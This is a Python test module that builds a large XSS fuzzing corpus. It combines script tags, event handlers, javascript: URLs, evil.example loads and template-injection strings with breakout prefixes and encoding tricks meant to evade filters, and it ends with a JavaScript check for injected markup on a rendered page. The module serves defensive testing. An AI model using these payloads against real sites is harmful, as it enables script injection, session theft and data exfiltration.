"""What attackers put into titles, names, links and bodies: thousands of combinations, all made here.

A vector does something (calls `alert`, sets `window.pwned`, asks evil.example); an envelope breaks out of where it may
stand; a disguise writes the same so that a filter may not know it.
"""

from collections.abc import Callable, Iterator
from html import escape
from itertools import product
from typing import Final
from urllib.parse import quote

CALL: Final = "window.pwned=1;alert(1)"
EVENTS: Final = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpageshow",
)
TAGS: Final = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe",
    "marquee",
    "style",
    "math",
)
URLS: Final = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}", f" javascript:{CALL}", f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}", f"&#106;avascript:{CALL}", f"vbscript:{CALL}", f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x", "https:evil.example", "https://evil.example@office.example/", "blob:https://evil.example/1", "file:///etc/passwd", "\\\\evil.example\\x", "ftp://evil.example/",
)  # fmt: skip
WHOLE: Final = (
    f"<script>{CALL}</script>", "<script src=https://evil.example/x.js></script>", f"<svg><script>{CALL}</script></svg>", f"<svg><script href=data:,{CALL} /></svg>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>", "<iframe src=https://evil.example/></iframe>", f"<object data='javascript:{CALL}'></object>",
    "<embed src=https://evil.example/x.swf>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=https://evil.example/>", "<style>@import 'https://evil.example/y.css';</style>",
    "<style>body{background:url(https://evil.example/b)}</style>", "<p style='background:url(https://evil.example/z)'>x</p>", "<table background=https://evil.example/t><td>x</table>",
    "<img src=https://evil.example/p.png>", "<img srcset='https://evil.example/p.png 1x'>", "<picture><source srcset=https://evil.example/q.png><img></picture>", "<video poster=https://evil.example/v.png></video>",
    "<form action=https://evil.example/><button autofocus>x</button></form>", "<input type=image src=https://evil.example/i.png>", "<isindex action=https://evil.example/>",
    f"<math><mtext></p><style><img src=x onerror={CALL}></style></mtext></math>", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>", f"<template><script>{CALL}</script></template>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", "<svg><use href='https://evil.example/s.svg#x'></use></svg>", "<svg><image href=https://evil.example/i.png></image></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>", f"<svg></p><style><a id='</style><img src=1 onerror={CALL}>'>",
    "<dialog open>x</dialog>", "<portal src=https://evil.example/></portal>", "<frameset><frame src=https://evil.example/></frameset>", "<applet code=x></applet>", "<bgsound src=https://evil.example/>", "<xml><x></x></xml>", "<plaintext>",
    "{{ 7|add:7 }}", "{% load static %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<!--#include virtual='/etc/passwd'-->", "<?php echo 7*7 ?>",
)  # fmt: skip
ENVELOPES: Final = (
    ("", ""), ('">', ""), ("'>", ""), ("</title>", ""), ("</textarea>", ""), ("</script>", ""), ("</style>", ""), ("-->", ""), ("<!--", ""), ("]]>", ""),
    ("<![CDATA[", "]]>"), ("</bdi></h1>", ""), ("\u202e", ""), ("\u2067", "\u202d"), ("<a href='", "'>x</a>"), ("&quot;&gt;", ""), ("<p title='", "'>"), ("<!-->", "-->"), ("</xmp>", ""), ("<b", ">"),
)  # fmt: skip
DISGUISES: Final[tuple[Callable[[str], str], ...]] = (
    str, str.upper, escape, lambda text: escape(escape(text)), quote, lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<\x0c"), lambda text: text.replace(" ", "/"), lambda text: text.replace("s", "\u017f"), lambda text: "".join(f"&#{ord(char)};" for char in text),
    lambda text: text.replace("<", "&lt").replace(">", "&gt"), lambda text: text.replace("script", "scr<script>ipt"),
)  # fmt: skip


def vectors() -> Iterator[str]:
    """Each thing that an attacker wants to happen, once."""
    yield from WHOLE
    for tag, event in product(TAGS, EVENTS):
        yield f"<{tag} {event}={CALL}>"
    for url in URLS:
        yield from (f"<a href='{url}'>x</a>", f"[x]({url})", url)


def payloads() -> list[str]:
    """All of them, each once, in one order: every vector plain, in every envelope, and in every disguise."""
    found = dict.fromkeys(vectors())
    known = list(found)
    for vector, (before, after) in product(known, ENVELOPES):
        found.setdefault(f"{before}{vector}{after}")
    for vector, disguise in product(known, DISGUISES):
        found.setdefault(disguise(vector))
    return list(found)


LEFT_TO_DO: Final = """(() => {
  const site = location.origin, wrong = [];
  if (window.pwned) wrong.push("a script of the payload ran");
  const banned = "script:not([type='application/ld+json']), iframe:not(.capture-frame), object, embed, applet, frame, svg:not(.page-source aside .checks), math, img, picture, video, audio, source, style, base, template, " +
    "marquee, dialog, portal, form:not(.compare, search form, .seek form, .page-search form), link[rel~=prefetch], link[rel~=preload], meta[http-equiv], noscript, xmp, plaintext, bgsound, [style], [srcset], [background], [poster], [ping], [formaction]";
  for (const node of document.querySelectorAll(banned)) wrong.push(node.outerHTML.slice(0, 200));
  for (const node of document.querySelectorAll("*"))
    for (const {name, value} of node.attributes) {
      if (name.startsWith("on")) wrong.push(node.outerHTML.slice(0, 200));
      if (name === "href" && !/^(https?|mailto|tel):$/.test(new URL(value, location).protocol)) wrong.push(value.slice(0, 200));
    }
  for (const node of document.querySelectorAll("link[rel=stylesheet], link[rel=icon]"))
    if (new URL(node.href).origin !== site) wrong.push(node.outerHTML);
  if (document.querySelectorAll("h1").length !== 1 || document.querySelectorAll("main").length !== 1) wrong.push("the page has lost its shape");
  return wrong.slice(0, 5);
})()"""
"""In a page: what stands there that no payload may have put there; empty where all is inert."""
